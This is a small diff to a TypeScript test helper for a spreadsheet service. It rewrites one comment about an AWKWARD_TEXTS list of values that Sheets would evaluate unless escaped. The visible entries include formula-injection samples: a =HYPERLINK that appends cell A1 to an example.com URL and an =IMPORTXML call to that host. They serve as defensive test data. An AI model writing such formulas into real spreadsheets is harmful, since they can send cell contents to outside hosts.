@@ -7,10 +7,7 @@ import type { Sheet } from '../../../ports/workbook.ts';
 import type { AnswerTo } from '../rules/topics.ts';
 import { type TrialBench, throws } from './workbench.ts';
 
-/**
- * Sheets would evaluate, convert or break these if written carelessly. The simulated service has the same list; a
- * test compares them.
- */
+/** Sheets evaluates, converts or breaks these unless escaped. A test compares the simulated service's list. */
 export const AWKWARD_TEXTS: readonly string[] = [
   '=HYPERLINK("https://example.com/?q="&A1,"Clique aqui")',
   '=IMPORTXML("https://example.com";"//a")',
